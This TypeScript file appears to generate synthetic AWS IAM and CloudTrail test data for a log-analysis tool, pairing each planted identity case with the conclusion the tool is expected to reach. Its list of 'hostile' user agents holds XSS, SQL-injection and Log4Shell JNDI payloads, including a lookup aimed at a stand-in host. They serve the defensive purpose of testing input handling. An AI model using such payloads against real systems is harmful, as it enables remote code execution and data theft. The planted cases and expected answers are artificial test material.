/**
 * OrgBuilder: the one place identities, their grants, their activity and the expected answers
 * are created together, so a planted case's expectation is derived from the same values that
 * produced its IAM documents and its events.
 */
import type { Rng } from './rng.js';
import { getCall } from './catalog.js';
import type { AccountInfo, Actor, ActorStyle } from './model.js';
import type { PlannedEvent } from './records.js';
import type {
  AttachedPolicy,
  IamAccount,
  InlinePolicyDetail,
  ManagedPolicyDetail,
  PolicyDoc,
  RoleDetail,
  UserCredentials,
  UserDetail,
  GroupDetail,
} from './iam-model.js';
import { attached } from './iam-model.js';

export const DAY_MS = 86_400_000;

export type CaseCategory =
  | 'inactive'
  | 'over-provisioned'
  | 'super'
  | 'unused-credential'
  | 'privilege-escalation'
  | 'role-trust'
  | 'cross-account';

/** One planted case: the identity, and what trailscope should conclude about it. */
export interface ExpectedCase {
  id: string;
  category: CaseCategory;
  accountId: string;
  arn: string;
  /** The conclusion, e.g. { status: 'inactive' } or { privesc: 'exercised', ... }. */
  expect: Record<string, unknown>;
  description: string;
}

export const USER_AGENTS = {
  cli: [
    'aws-cli/2.17.20 md/awscrt#0.20.11 ua/2.0 os/macos#23.5.0 md/arch#arm64 lang/python#3.11.9 md/pyimpl#CPython cfg/retry-mode#standard md/installer#exe md/prompt#off md/command#s3.ls',
    'aws-cli/2.22.4 md/awscrt#0.22.0 ua/2.0 os/linux#6.8.0-1017-aws md/arch#x86_64 lang/python#3.12.6 md/pyimpl#CPython cfg/retry-mode#standard md/installer#exe md/distrib#ubuntu.24 md/prompt#off md/command#sts.get-caller-identity',
    'aws-cli/2.15.30 Python/3.11.8 Darwin/23.4.0 exe/x86_64 prompt/off command/ec2.describe-instances',
  ],
  console: [
    'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36',
    'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36 Edg/130.0.0.0',
    'Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0',
    'AWS Internal',
  ],
  terraform: [
    'APN/1.0 HashiCorp/1.0 Terraform/1.9.8 (+https://www.terraform.io) terraform-provider-aws/5.76.0 (+https://registry.terraform.io/providers/hashicorp/aws) aws-sdk-go-v2/1.32.4 ua/2.1 os/linux lang/go#1.23.2 md/GOOS#linux md/GOARCH#amd64 api/iam#1.38.1',
  ],
  python: [
    'Boto3/1.35.54 md/Botocore#1.35.54 ua/2.0 os/linux#5.10.227-219.884.amzn2.x86_64 md/arch#x86_64 lang/python#3.12.7 md/pyimpl#CPython exec-env/AWS_Lambda_python3.12 cfg/retry-mode#legacy Botocore/1.35.54',
  ],
  node: [
    'aws-sdk-js/3.682.0 ua/2.1 os/linux#5.10.227-239.884.amzn2.x86_64 lang/js md/nodejs#20.18.0 api/dynamodb#3.682.0 m/D,E exec-env/AWS_Lambda_nodejs20.x',
  ],
  go: [
    'aws-sdk-go-v2/1.32.4 ua/2.1 os/linux lang/go#1.23.2 md/GOOS#linux md/GOARCH#amd64 api/s3#1.66.3 m/E,Z',
  ],
  ssmAgent: ['amazon-ssm-agent/3.3.1142.0'],
  java: ['aws-sdk-java/2.29.6 Linux/5.10.227-219.884.amzn2.x86_64 OpenJDK_64-Bit_Server_VM/21.0.5+11-LTS Java/21.0.5 vendor/Amazon.com_Inc. io/sync http/Apache cfg/retry-mode/standard'],
  github: ['aws-sdk-js/3.682.0 ua/2.1 os/linux#6.5.0-1025-azure lang/js md/nodejs#20.18.0 api/sts#3.682.0 configure-aws-credentials-for-github-actions'],
  /** Seen in real trails: attackers probing with payloads in the User-Agent header. */
  hostile: ["<script>alert(1)</script>", "'; DROP TABLE events;--", 'python-requests/2.31.0 ${jndi:ldap://198.51.100.7:1389/a}', '"><img src=x onerror=alert(document.domain)>'],
} as const;

export interface UserSpec {
  name: string;
  path?: string;
  createdMs: number;
  groups?: string[];
  managed?: string[];
  inline?: InlinePolicyDetail[];
  boundary?: string;
  /** Access keys: how many, and whether each is active. Use of a key is derived from events. */
  keys?: { active: boolean; createdMs: number }[];
  password?: { enabled: boolean; lastChangedMs: number | null };
  mfa?: boolean;
  tags?: Record<string, string>;
}

export interface RoleSpec {
  name: string;
  path?: string;
  createdMs: number;
  trust: PolicyDoc;
  managed?: string[];
  inline?: InlinePolicyDetail[];
  boundary?: string;
  instanceProfile?: boolean;
  description?: string;
  tags?: Record<string, string>;
}

export interface ActorSpec {
  style: ActorStyle;
  calls: string[];
  weights?: number[];
  weight?: number;
  sessionNames?: string[];
  userAgents?: readonly string[];
  ips?: string[];
  mfa?: boolean;
  deniable?: boolean;
  /** Only these keys (by index into the user's keys) are used by the actor. */
  useKeys?: number[];
  invokedBy?: string;
  federation?: string;
}

export class OrgBuilder {
  readonly iam = new Map<string, IamAccount>();
  readonly actors = new Map<string, Actor[]>();
  readonly scripted: PlannedEvent[] = [];
  readonly cases: ExpectedCase[] = [];
  /** Users/roles whose last-use facts derive from background traffic rather than scripted events. */
  readonly backgroundIdentityArns = new Set<string>();
  private userByArn = new Map<string, UserDetail>();
  private roleByArn = new Map<string, RoleDetail>();
  private actorSeq = 0;

  constructor(
    readonly rng: Rng,
    readonly startMs: number,
    readonly endMs: number,
  ) {}

  account(acct: AccountInfo, urlEncoded: boolean, rootCreatedMs: number): IamAccount {
    const a: IamAccount = {
      accountId: acct.id,
      users: [],
      groups: [],
      roles: [],
      policies: [],
      credentials: new Map(),
      rootCreatedMs,
      rootPasswordLastUsedMs: null,
      urlEncoded,
    };
    this.iam.set(acct.id, a);
    this.actors.set(acct.id, []);
    return a;
  }

  private iamOf(acct: AccountInfo): IamAccount {
    const a = this.iam.get(acct.id);
    if (!a) throw new Error(`account ${acct.id} not initialised`);
    return a;
  }

  uid(prefix: string): string {
    return prefix + this.rng.upper(17);
  }

  /** A customer-managed policy; the last document is the default version. */
  policy(acct: AccountInfo, name: string, versions: PolicyDoc[], createdMs: number, opts: { path?: string; description?: string } = {}): string {
    const path = opts.path ?? '/';
    const arn = `arn:aws:iam::${acct.id}:policy${path}${name}`;
    const step = Math.max(DAY_MS, Math.floor((this.startMs - createdMs) / Math.max(1, versions.length)));
    const p: ManagedPolicyDetail = {
      PolicyName: name,
      PolicyId: this.uid('ANPA'),
      Arn: arn,
      Path: path,
      DefaultVersionId: `v${versions.length}`,
      AttachmentCount: 0,
      PermissionsBoundaryUsageCount: 0,
      IsAttachable: true,
      Description: opts.description,
      CreateDate: createdMs,
      UpdateDate: createdMs + step * (versions.length - 1),
      PolicyVersionList: versions
        .map((d, i) => ({ Document: d, VersionId: `v${i + 1}`, IsDefaultVersion: i === versions.length - 1, CreateDate: createdMs + step * i }))
        .reverse(),
    };
    this.iamOf(acct).policies.push(p);
    return arn;
  }

  private attach(acct: AccountInfo, arns: string[] | undefined, boundary?: string): AttachedPolicy[] {
    const pols = this.iamOf(acct).policies;
    for (const arn of arns ?? []) {
      const p = pols.find((x) => x.Arn === arn);
      if (p) p.AttachmentCount++;
    }
    if (boundary) {
      const p = pols.find((x) => x.Arn === boundary);
      if (p) p.PermissionsBoundaryUsageCount++;
    }
    return (arns ?? []).map(attached);
  }

  user(acct: AccountInfo, spec: UserSpec): UserDetail {
    const path = spec.path ?? '/';
    const u: UserDetail = {
      Path: path,
      UserName: spec.name,
      UserId: this.uid('AIDA'),
      Arn: `arn:aws:iam::${acct.id}:user${path}${spec.name}`,
      CreateDate: spec.createdMs,
      UserPolicyList: spec.inline ?? [],
      GroupList: spec.groups ?? [],
      AttachedManagedPolicies: this.attach(acct, spec.managed, spec.boundary),
      Tags: Object.entries(spec.tags ?? {}).map(([Key, Value]) => ({ Key, Value })),
    };
    if (spec.boundary) u.PermissionsBoundary = { PermissionsBoundaryType: 'Policy', PermissionsBoundaryArn: spec.boundary };
    for (const g of spec.groups ?? []) {
      if (!this.iamOf(acct).groups.some((x) => x.GroupName === g)) throw new Error(`group ${g} must exist before user ${spec.name}`);
    }
    const creds: UserCredentials = {
      password: { enabled: spec.password?.enabled ?? false, lastUsedMs: null, lastChangedMs: spec.password?.lastChangedMs ?? null },
      mfaActive: spec.mfa ?? false,
      keys: (spec.keys ?? []).map((k) => ({ id: 'AKIA' + this.rng.upper(16), active: k.active, createdMs: k.createdMs, lastUsedMs: null })),
    };
    this.iamOf(acct).users.push(u);
    this.iamOf(acct).credentials.set(u.Arn, creds);
    this.userByArn.set(u.Arn, u);
    return u;
  }

  credentials(acct: AccountInfo, userArn: string): UserCredentials {
    const c = this.iamOf(acct).credentials.get(userArn);
    if (!c) throw new Error(`no credentials for ${userArn}`);
    return c;
  }

  group(acct: AccountInfo, name: string, managed: string[], inline: InlinePolicyDetail[], createdMs: number): GroupDetail {
    const g: GroupDetail = {
      Path: '/',
      GroupName: name,
      GroupId: this.uid('AGPA'),
      Arn: `arn:aws:iam::${acct.id}:group/${name}`,
      CreateDate: createdMs,
      GroupPolicyList: inline,
      AttachedManagedPolicies: this.attach(acct, managed),
    };
    this.iamOf(acct).groups.push(g);
    return g;
  }

  role(acct: AccountInfo, spec: RoleSpec): RoleDetail {
    const path = spec.path ?? '/';
    const r: RoleDetail = {
      Path: path,
      RoleName: spec.name,
      RoleId: this.uid('AROA'),
      Arn: `arn:aws:iam::${acct.id}:role${path}${spec.name}`,
      CreateDate: spec.createdMs,
      AssumeRolePolicyDocument: spec.trust,
      InstanceProfileList: [],
      RolePolicyList: spec.inline ?? [],
      AttachedManagedPolicies: this.attach(acct, spec.managed, spec.boundary),
      Tags: Object.entries(spec.tags ?? {}).map(([Key, Value]) => ({ Key, Value })),
      RoleLastUsed: {},
      Description: spec.description,
    };
    if (spec.boundary) r.PermissionsBoundary = { PermissionsBoundaryType: 'Policy', PermissionsBoundaryArn: spec.boundary };
    if (spec.instanceProfile) {
      r.InstanceProfileList.push({
        Path: '/',
        InstanceProfileName: spec.name,
        InstanceProfileId: this.uid('AIPA'),
        Arn: `arn:aws:iam::${acct.id}:instance-profile/${spec.name}`,
        CreateDate: spec.createdMs,
      });
    }
    this.iamOf(acct).roles.push(r);
    this.roleByArn.set(r.Arn, r);
    return r;
  }

  /** An actor for a user, role or root (identity undefined = root); aws-service actors pass a principal. */
  actor(acct: AccountInfo, identity: UserDetail | RoleDetail | 'root' | { service: string }, spec: ActorSpec): Actor {
    let arn: string;
    let name: string;
    let uniqueId: string;
    let accessKeyIds: string[] = [];
    if (identity === 'root') {
      arn = `arn:aws:iam::${acct.id}:root`;
      name = 'root';
      uniqueId = acct.id;
    } else if ('service' in identity) {
      arn = identity.service;
      name = identity.service;
      uniqueId = identity.service;
    } else if ('UserName' in identity) {
      arn = identity.Arn;
      name = identity.UserName;
      uniqueId = identity.UserId;
      const creds = this.credentials(acct, identity.Arn);
      const use = spec.useKeys ?? creds.keys.map((_, i) => i);
      accessKeyIds = use.map((i) => creds.keys[i]?.id).filter((x): x is string => !!x);
    } else {
      arn = identity.Arn;
      name = identity.RoleName;
      uniqueId = identity.RoleId;
    }
    const calls = spec.calls.map(getCall);
    const a: Actor = {
      key: `a${this.actorSeq++}`,
      account: acct,
      style: spec.style,
      arn,
      name,
      uniqueId,
      accessKeyIds,
      sessionNames: spec.sessionNames ?? [name],
      userAgents: [...(spec.userAgents ?? USER_AGENTS.cli)],
      ips: spec.ips ?? [this.publicIp()],
      activity: { calls, weights: spec.weights ?? calls.map(() => 1) },
      weight: spec.weight ?? 0,
      mfa: spec.mfa ?? false,
      deniable: spec.deniable ?? false,
      invokedBy: spec.invokedBy,
      federation: spec.federation,
    };
    if (spec.style === 'lambda' || spec.style === 'ec2' || spec.style === 'ecs') a.homeRegion = this.rng.weighted(acct.regions, acct.regionWeights);
    if (a.weight > 0) {
      this.actors.get(acct.id)!.push(a);
      if (identity !== 'root' && !('service' in identity)) this.backgroundIdentityArns.add(arn);
    }
    return a;
  }

  publicIp(): string {
    // Documentation ranges look fake; real trails show real public IPs. Use AWS/ISP-like blocks.
    const first = this.rng.pick([3, 18, 34, 35, 44, 52, 54, 81, 86, 92, 176, 203]);
    return `${first}.${this.rng.int(1, 254)}.${this.rng.int(0, 255)}.${this.rng.int(1, 254)}`;
  }

  /** Schedules one planted event; returns its eventID. */
  emit(
    actor: Actor,
    callKey: string,
    timeMs: number,
    opts: Partial<Pick<PlannedEvent, 'error' | 'args' | 'userAgent' | 'region' | 'recipientAccountId' | 'identityOverride' | 'sharedEventID'>> = {},
  ): string {
    const call = getCall(callKey);
    const eventID = this.rng.uuid();
    const region = call.global ? 'us-east-1' : (opts.region ?? actor.homeRegion ?? actor.account.regions[0]!);
    this.scripted.push({ ...opts, timeMs: Math.floor(timeMs / 1000) * 1000, actor, call, region, eventID });
    return eventID;
  }

  /** n times spread over [fromMs, toMs), during working hours where possible. */
  times(n: number, fromMs: number, toMs: number): number[] {
    const out: number[] = [];
    for (let i = 0; i < n; i++) {
      const slot = fromMs + ((toMs - fromMs) * (i + this.rng.next() * 0.8)) / n;
      out.push(Math.floor(slot / 1000) * 1000);
    }
    return out;
  }

  expect(c: ExpectedCase): void {
    if (this.cases.some((x) => x.id === c.id)) throw new Error(`duplicate case id ${c.id}`);
    this.cases.push(c);
  }

  /**
   * Derives last-use facts (credential report, RoleLastUsed) for identities driven only by
   * scripted events, from those events. Call once, after all planting.
   */
  finalizeScriptedUsage(): void {
    this.scripted.sort((a, b) => a.timeMs - b.timeMs);
    for (const ev of this.scripted) {
      const a = ev.actor;
      if (this.backgroundIdentityArns.has(a.arn)) continue;
      const user = this.userByArn.get(a.arn);
      if (user) {
        const creds = this.credentials(a.account, user.Arn);
        if (ev.call.eventName === 'ConsoleLogin' && !ev.error) creds.password.lastUsedMs = ev.timeMs;
        if (a.style === 'user-cli') {
          // The report's last-used time moves on every signed request, denied ones included.
          for (const k of creds.keys) {
            if (a.accessKeyIds.includes(k.id) && (k.lastUsedMs === null || ev.timeMs > k.lastUsedMs)) {
              k.lastUsedMs = ev.timeMs;
              k.region = ev.region;
              k.service = ev.call.eventSource.split('.')[0];
            }
          }
        }
      }
      const role = this.roleByArn.get(a.arn);
      if (role && (role.RoleLastUsed.LastUsedDate ?? 0) < ev.timeMs) role.RoleLastUsed = { LastUsedDate: ev.timeMs, Region: ev.region };
    }
  }
}

export { attached };
